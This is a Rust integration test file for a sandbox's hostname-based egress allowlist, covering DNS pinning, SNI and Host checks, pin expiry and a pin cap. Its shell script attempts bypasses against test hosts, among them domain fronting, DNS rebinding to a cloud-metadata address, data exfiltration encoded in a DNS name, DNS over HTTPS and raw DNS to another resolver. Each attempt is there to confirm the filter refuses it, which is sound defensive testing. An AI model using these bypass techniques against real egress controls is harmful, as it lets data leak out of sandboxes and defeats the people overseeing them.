#![allow(clippy::unwrap_used, clippy::expect_used)]
//! Egress by name: `allow = ["pypi.test:80", "pypi.test:443", "*.cdn.test:80"]`
//! with the gateway resolving only those names, pinning their answers'
//! addresses in the forwarder and the kernel's sets, and the first bytes
//! of each pinned connection checked (TLS SNI, HTTP Host). Real clients
//! (curl, getent, openssl s_client) in the sandbox; the names served by the
//! test's own resolver, and TLS by `openssl s_server` with a test CA, in a
//! world namespace the test made. Each refusal has a control that shows the
//! same thing working with the rule loosened. Needs root, as in CI.

use std::path::Path;
use std::process::{Child, Command, Stdio};

use sandbox_core::Sandbox;

mod common;
use common::world::*;
use common::*;

/// The world: web servers on 198.18.1.1, 198.18.2.2 and 10.0.0.1 (port
/// 80 and 81), and a resolver on 198.18.9.9 that knows the test's names.
fn world() -> std::sync::Arc<std::sync::Mutex<Vec<String>>> {
    enter_world(&["198.18.1.1", "198.18.2.2", "198.18.9.9", "10.0.0.1"]);
    serve_http("198.18.1.1:80", "pypi\n");
    serve_http("198.18.1.1:81", "pypi on 81\n");
    serve_http("198.18.2.2:80", "other\n");
    serve_http("10.0.0.1:80", "internal\n");
    serve_dns(
        "198.18.9.9:53",
        &[
            ("pypi.test", [198, 18, 1, 1]),
            ("files.cdn.test", [198, 18, 1, 1]),
            ("other.test", [198, 18, 2, 2]),
            ("evil.cdn.test", [10, 0, 0, 1]),
            ("meta.cdn.test", [169, 254, 169, 254]),
        ],
    )
}

/// A test CA and a certificate it signed for pypi.test, files.cdn.test and
/// evil.test, in `dir` (`ca.pem`, `srv.pem`, `srv.key`).
fn test_ca(dir: &Path) {
    let openssl = |args: &[&str]| {
        let out = Command::new("openssl")
            .args(args)
            .current_dir(dir)
            .output()
            .unwrap();
        assert!(out.status.success(), "openssl {args:?}: {out:?}");
    };
    let ec = [
        "-newkey",
        "ec",
        "-pkeyopt",
        "ec_paramgen_curve:prime256v1",
        "-nodes",
    ];
    openssl(
        &[
            &["req", "-x509"][..],
            &ec,
            &[
                "-keyout",
                "ca.key",
                "-out",
                "ca.pem",
                "-days",
                "2",
                "-subj",
                "/CN=sandbox test CA",
            ],
        ]
        .concat(),
    );
    openssl(
        &[
            &["req"][..],
            &ec,
            &[
                "-keyout",
                "srv.key",
                "-out",
                "srv.csr",
                "-subj",
                "/CN=pypi.test",
            ],
        ]
        .concat(),
    );
    std::fs::write(
        dir.join("ext"),
        "subjectAltName=DNS:pypi.test,DNS:files.cdn.test,DNS:evil.test\n",
    )
    .unwrap();
    openssl(&[
        "x509",
        "-req",
        "-in",
        "srv.csr",
        "-CA",
        "ca.pem",
        "-CAkey",
        "ca.key",
        "-CAcreateserial",
        "-out",
        "srv.pem",
        "-days",
        "2",
        "-extfile",
        "ext",
    ]);
}

/// A server process of the test's, ended (by its pid) when dropped, the
/// test passing or not.
struct Server(Child);

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// `openssl s_server` on `port` of the world (call from its thread) with
/// the test's certificate in `dir`: `-www` answers every request with a
/// page, `-WWW` serves the files of `root`.
fn serve_tls(dir: &Path, port: u16, mode: &str, root: &Path) -> Server {
    let cert = dir.join("srv.pem");
    let key = dir.join("srv.key");
    let child = Command::new("openssl")
        .args(["s_server", "-accept", &port.to_string(), "-quiet", mode])
        .arg("-cert")
        .arg(&cert)
        .arg("-key")
        .arg(&key)
        .current_dir(root)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let server = Server(child);
    // Ready once it accepts.
    for _ in 0..100 {
        if std::net::TcpStream::connect(("198.18.1.1", port)).is_ok() {
            return server;
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    panic!("s_server did not start");
}

/// A bare git repository `repo.git` in `root` with one commit (hello.txt:
/// "hello from git"), ready to clone over plain ("dumb") HTTP.
fn git_repo(root: &Path) {
    let git = |dir: &Path, args: &[&str]| {
        let out = Command::new("git")
            .args([
                "-c",
                "user.name=test",
                "-c",
                "user.email=test@test",
                "-c",
                "init.defaultBranch=main",
            ])
            .args(args)
            .current_dir(dir)
            .output()
            .unwrap();
        assert!(out.status.success(), "git {args:?}: {out:?}");
    };
    let work = root.join("work");
    std::fs::create_dir_all(&work).unwrap();
    git(&work, &["init", "-q"]);
    std::fs::write(work.join("hello.txt"), "hello from git\n").unwrap();
    git(&work, &["add", "hello.txt"]);
    git(&work, &["commit", "-q", "-m", "hello"]);
    git(root, &["clone", "-q", "--bare", "work", "repo.git"]);
    git(&root.join("repo.git"), &["update-server-info"]);
}

fn run(sb: &Sandbox, script: &str) -> (String, sandbox_core::EgressStats) {
    let out = sb.command("bash").args(["-c", script]).output().unwrap();
    let text =
        String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr);
    (text, out.egress.expect("the forwarder's figures"))
}

/// Each line: `NAME: ` and the body, or `refused`.
const SCRIPT: &str = r#"
get() { out=$(curl -sS --max-time 5 "${@:2}" 2>&1) && echo "$1: $out" || echo "$1: refused ($out)"; }
resolve() { getent ahostsv4 "$2" >/dev/null && echo "$1: resolved" || echo "$1: unresolved"; }
get allowed http://pypi.test/
get wildcard http://files.cdn.test/
resolve unlisted other.test
get unlisted-ip http://198.18.2.2/
get other-port http://pypi.test:81/
resolve rebinding evil.cdn.test
resolve metadata meta.cdn.test
get pinned-ip http://198.18.1.1/
get http-fronted -H 'Host: evil.test' http://pypi.test/
tls() { code=$(curl -sS --max-time 5 --cacert "$CA" -o /dev/null -w '%{http_code}' "${@:2}" 2>&1) && echo "$1: $code" || echo "$1: refused ($code)"; }
tls tls-allowed https://pypi.test/
tls tls-fronted -k --resolve evil.test:443:198.18.1.1 https://evil.test/
timeout 5 openssl s_client -connect 198.18.1.1:443 -noservername </dev/null >/dev/null 2>&1 && echo "tls-no-sni: reached" || echo "tls-no-sni: refused"
resolve exfil c2VjcmV0LWRhdGE.other.test
tls tls-unpinned --resolve pypi.test:443:198.18.2.2 https://pypi.test/
tls doh -k https://198.18.2.2/dns-query
perl -e 'use Socket; socket(my $s, PF_INET, SOCK_DGRAM, 0) or die; connect($s, sockaddr_in(53, inet_aton("198.18.9.9"))) or die; my $q = pack("n n n n n n", 7, 0x0100, 1, 0, 0, 0) . "\x04pypi\x04test\x00" . pack("n n", 1, 1); send($s, $q, 0) or do { print "udp53-other: refused ($!)\n"; exit }; my $rin = ""; vec($rin, fileno($s), 1) = 1; if (select(my $r = $rin, undef, undef, 2)) { recv($s, my $b, 1500, 0); print "udp53-other: answered\n" } else { print "udp53-other: refused (no answer)\n" }'
echo "python-http: $(python3 -c 'import urllib.request; print(urllib.request.urlopen("http://pypi.test/", timeout=5).read().decode().strip())' 2>&1 | tail -n 1)"
echo "python-https: $(SSL_CERT_FILE=$CA python3 -c 'import urllib.request; print(urllib.request.urlopen("https://pypi.test/", timeout=5).status)' 2>&1 | tail -n 1)"
GIT_SMART_HTTP=0 GIT_SSL_CAINFO=$CA git clone -q https://pypi.test:8443/repo.git /tmp/clone 2>&1 | tail -n 1; echo "git-clone: $(cat /tmp/clone/hello.txt 2>&1)"
RES_OPTIONS=use-vc resolve tcp-dns-allowed pypi.test
RES_OPTIONS=use-vc resolve tcp-dns-unlisted other.test
"#;

#[test]
#[ignore = "needs root"]
fn names_are_resolved_pinned_and_only_theirs_reached() {
    common::require_root();
    let dir = tempfile::tempdir().unwrap();
    test_ca(dir.path());
    let path = dir.path().display().to_string();
    std::thread::spawn(move || {
        let asked = world();
        let tls = serve_tls(Path::new(&path), 443, "-www", Path::new(&path));
        let git_root = Path::new(&path).join("git");
        git_repo(&git_root);
        let git_server = serve_tls(Path::new(&path), 8443, "-WWW", &git_root);
        let with = |network: &str| {
            // Time enough for the whole script under emulation (the VM
            // matrix runs it some 10x slower than here).
            sandbox(&format!(
                "[filesystem]\nbinds = [{{ source = \"{path}\", target = \"{path}\" }}]\n[env]\nset = {{ CA = \"{path}/ca.pem\" }}\n[resources]\nwall_time = \"300s\"\ncpu_time = \"300s\"\n{network}"
            ))
            .with_dns_upstream("198.18.9.9:53".parse().unwrap())
        };
        let heard = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let names = {
            let heard = std::sync::Arc::clone(&heard);
            with(
                "[network]\nmode = \"allowlist\"\nallow = [\"pypi.test:80\", \"pypi.test:443\", \"pypi.test:8443\", \"*.cdn.test:80/tcp\"]\n",
            )
            .on_egress_refusal(move |r| heard.lock().unwrap().push(r.to_string()))
        };
        assert!(names.report().network.enforced, "{}", names.report());
        let (text, egress) = run(&names, SCRIPT);
        let line = |name: &str| {
            text.lines()
                .find(|l| l.starts_with(&format!("{name}: ")))
                .unwrap_or_else(|| panic!("no {name} in {text}"))
                .to_string()
        };
        assert_eq!(line("allowed"), "allowed: pypi", "{text}\n{egress}");
        assert_eq!(line("wildcard"), "wildcard: pypi", "{text}\n{egress}");
        assert_eq!(line("unlisted"), "unlisted: unresolved", "{text}");
        assert!(line("unlisted-ip").starts_with("unlisted-ip: refused"), "{text}");
        assert!(line("other-port").starts_with("other-port: refused"), "{text}");
        assert_eq!(line("rebinding"), "rebinding: unresolved", "{text}");
        assert_eq!(line("metadata"), "metadata: unresolved", "{text}");
        // A pinned address by its literal, or with another name in Host or
        // SNI (domain fronting), or with no SNI: reset.
        assert!(line("pinned-ip").starts_with("pinned-ip: refused"), "{text}");
        assert!(line("http-fronted").starts_with("http-fronted: refused"), "{text}");
        assert_eq!(line("tls-allowed"), "tls-allowed: 200", "{text}\n{egress}");
        assert!(line("tls-fronted").starts_with("tls-fronted: refused"), "{text}");
        assert_eq!(line("tls-no-sni"), "tls-no-sni: refused", "{text}");
        // The bypasses peers' filters were found open to: a name carrying
        // data (it never reached the resolver), an allowed name over TLS
        // to an address its answer did not give, DNS over HTTPS to an
        // unlisted address, raw DNS to another resolver.
        assert_eq!(line("exfil"), "exfil: unresolved", "{text}");
        assert!(line("tls-unpinned").starts_with("tls-unpinned: refused"), "{text}");
        assert!(line("doh").starts_with("doh: refused"), "{text}");
        assert!(line("udp53-other").starts_with("udp53-other: refused"), "{text}");
        // Real clients: git over https, python's urllib, plain and over TLS.
        assert_eq!(line("git-clone"), "git-clone: hello from git", "{text}");
        assert_eq!(line("python-http"), "python-http: pypi", "{text}");
        assert_eq!(line("python-https"), "python-https: 200", "{text}");
        // DNS over TCP (what a resolver falls back to for a truncated
        // answer) is screened the same way.
        assert_eq!(line("tcp-dns-allowed"), "tcp-dns-allowed: resolved", "{text}");
        assert_eq!(line("tcp-dns-unlisted"), "tcp-dns-unlisted: unresolved", "{text}");
        let asked_inside = asked.lock().unwrap().clone();
        assert!(
            asked_inside.iter().any(|n| n == "pypi.test (tcp)"),
            "over TCP: {asked_inside:?}"
        );
        assert!(
            !asked_inside.iter().any(|n| n.ends_with("other.test")),
            "a refused name never leaves: {asked_inside:?}"
        );
        assert!(asked_inside.iter().any(|n| n == "pypi.test"), "{asked_inside:?}");
        assert!(egress.pins_added >= 1, "{egress}");
        assert!(egress.dns_refused >= 1, "{egress}");
        assert!(egress.dns_rebinding >= 2, "{egress}");
        assert_eq!(egress.pin_errors, 0, "{egress}");
        assert_eq!(egress.sni_mismatch, 1, "{egress}");
        assert_eq!(egress.no_sni, 1, "{egress}");
        assert_eq!(egress.host_mismatch, 2, "{egress}");
        // Every refusal reported, with its name or address and reason, by
        // the forwarder or the kernel; and to the live hook.
        let listed = |reason: &str, what: &str, kernel: bool| {
            egress.refusals.iter().any(|r| {
                r.reason == reason
                    && r.kernel == kernel
                    && (r.name.as_deref() == Some(what)
                        || r.addr.as_deref() == Some(what)
                        || format!("{}:{}", r.addr.as_deref().unwrap_or(""), r.port.unwrap_or(0))
                            == what)
            })
        };
        for (reason, what, kernel) in [
            ("dns-refused", "other.test", false),
            ("rebinding", "evil.cdn.test", false),
            ("rebinding", "meta.cdn.test", false),
            ("not-allowed", "198.18.2.2:80", true),
            ("not-allowed", "198.18.1.1:81", true),
            ("host-mismatch", "198.18.1.1", false),
            ("host-mismatch", "evil.test", false),
            ("sni-mismatch", "evil.test", false),
            ("no-sni", "198.18.1.1:443", false),
        ] {
            assert!(listed(reason, what, kernel), "{reason} {what}: {:#?}", egress.refusals);
        }
        let total: u64 = egress.refusals_by_reason.values().sum();
        assert_eq!(heard.lock().unwrap().len() as u64, total, "{:?}", heard.lock().unwrap());

        // Control: the same script with every name relayed and the whole
        // world allowed by address; what was refused is reached.
        let open = with(
            "[network]\nmode = \"allowlist\"\ndns = \"any\"\nallow = [\"198.18.0.0/15\", \"10.0.0.0/8\"]\n",
        );
        let (text, _) = run(&open, SCRIPT);
        drop((tls, git_server));
        // In the control the names left: the exfiltration channel that
        // dns = "any" is.
        assert!(
            asked
                .lock()
                .unwrap()
                .iter()
                .any(|n| n == "c2vjcmv0lwrhdge.other.test"),
            "control: {:?}",
            asked.lock().unwrap()
        );
        for (name, expected) in [
            ("unlisted", "unlisted: resolved"),
            ("unlisted-ip", "unlisted-ip: other"),
            ("other-port", "other-port: pypi on 81"),
            ("rebinding", "rebinding: resolved"),
            ("pinned-ip", "pinned-ip: pypi"),
            ("http-fronted", "http-fronted: pypi"),
            ("tls-fronted", "tls-fronted: 200"),
            ("tls-no-sni", "tls-no-sni: reached"),
            ("tls-unpinned", "tls-unpinned: 200"),
            ("doh", "doh: 200"),
            ("udp53-other", "udp53-other: answered"),
            ("tcp-dns-unlisted", "tcp-dns-unlisted: resolved"),
        ] {
            assert!(
                text.lines().any(|l| l == expected),
                "control {name}: {text}"
            );
        }
    })
    .join()
    .unwrap();
}

/// A pin lives as long as its answer (bounded here to 2 s): once it has
/// expired, a new connection to the address is refused while the one made
/// in its life goes on; asking again pins it again (the control).
#[test]
#[ignore = "needs root"]
fn an_expired_pin_refuses_new_connections_and_keeps_established_ones() {
    common::require_root();
    std::thread::spawn(|| {
        let _asked = world();
        let sb = sandbox("[network]\nmode = \"allowlist\"\nallow = [\"pypi.test:80\"]\n")
            .with_dns_upstream("198.18.9.9:53".parse().unwrap())
            .with_pin_ttl(
                std::time::Duration::from_secs(1),
                std::time::Duration::from_secs(2),
            )
            .unwrap();
        let script = r#"
exec 3<>/dev/tcp/pypi.test/80 && echo "opened"
sleep 3
printf 'GET / HTTP/1.0\r\nHost: pypi.test\r\n\r\n' >&3
echo "established: $(tail -n 1 <&3)"
out=$(curl -sS --max-time 5 -H 'Host: pypi.test' http://198.18.1.1/ 2>&1) && echo "new: $out" || echo "new: refused"
out=$(curl -sS --max-time 5 http://pypi.test/ 2>&1) && echo "renewed: $out" || echo "renewed: refused ($out)"
"#;
        let (text, egress) = run(&sb, script);
        assert!(text.contains("opened\n"), "{text}");
        assert!(text.contains("established: pypi\n"), "{text}\n{egress}");
        assert!(text.contains("new: refused\n"), "{text}\n{egress}");
        assert!(text.contains("renewed: pypi\n"), "{text}\n{egress}");
        assert!(
            egress.refusals.iter().any(|r| r.kernel
                && r.reason == "not-allowed"
                && r.addr.as_deref() == Some("198.18.1.1")),
            "{egress}\n{:#?}",
            egress.refusals
        );
    })
    .join()
    .unwrap();
}

/// perl: lookups of `n0.many.test` … `n<N-1>.many.test` through the
/// gateway, one socket each; prints how many got an address.
const PERL_MANY_NAMES: &str = r#"use Socket;
my $resolved = 0;
for my $i (0..$ARGV[0] - 1) {
  my $name = "n$i";
  my $q = pack("n n n n n n", $i, 0x0100, 1, 0, 0, 0) . chr(length $name) . $name . "\x04many\x04test\x00" . pack("n n", 1, 1);
  socket(my $s, PF_INET, SOCK_DGRAM, 0) or die; connect($s, sockaddr_in(53, inet_aton("10.0.2.2"))) or die;
  send($s, $q, 0);
  my $rin = ''; vec($rin, fileno($s), 1) = 1;
  if (select(my $r = $rin, undef, undef, 2)) { recv($s, my $b, 1500, 0); $resolved++ if unpack("n", substr($b, 6, 2)) > 0 }
}
print "$resolved\n";"#;

/// 5,000 distinct answers for names an allow rule matches: the first
/// 4,096 are pinned (the cap), the rest refused and counted, and the
/// sandbox's pins stay bounded; the control (a sandbox with every name
/// relayed) resolves them all.
#[test]
#[ignore = "needs root"]
fn distinct_answers_past_the_pin_cap_are_refused() {
    common::require_root();
    std::thread::spawn(|| {
        let _asked = world();
        let names = sandbox(
            "[resources]\nwall_time = \"120s\"\n[network]\nmode = \"allowlist\"\nallow = [\"*.many.test:443\"]\n[network.limits]\nnew_flows_per_second = 100000\n",
        )
        .with_dns_upstream("198.18.9.9:53".parse().unwrap());
        let out = names
            .command("perl")
            .args(["-e", PERL_MANY_NAMES, "5000"])
            .output()
            .unwrap();
        let egress = out.egress.expect("the forwarder's figures");
        let resolved = String::from_utf8_lossy(&out.stdout).trim().to_string();
        assert_eq!(resolved, "4096", "{egress}");
        assert_eq!(egress.pins_added, 4096, "{egress}");
        assert_eq!(egress.pins_over_cap, 904, "{egress}");
        assert_eq!(egress.pin_errors, 0, "{egress}");
        assert_eq!(egress.refusals_by_reason.get("cap"), Some(&904), "{egress}");
        assert!(egress.refusals.len() <= sandbox_net::forward::MAX_REFUSALS);
        // Control: every name relayed, none pinned, all resolved.
        let any = sandbox(
            "[resources]\nwall_time = \"120s\"\n[network]\nmode = \"allowlist\"\ndns = \"any\"\nallow = [\"198.18.1.1/32\"]\n[network.limits]\nnew_flows_per_second = 100000\n",
        )
        .with_dns_upstream("198.18.9.9:53".parse().unwrap());
        let out = any
            .command("perl")
            .args(["-e", PERL_MANY_NAMES, "5000"])
            .output()
            .unwrap();
        assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "5000", "control");
    })
    .join()
    .unwrap();
}
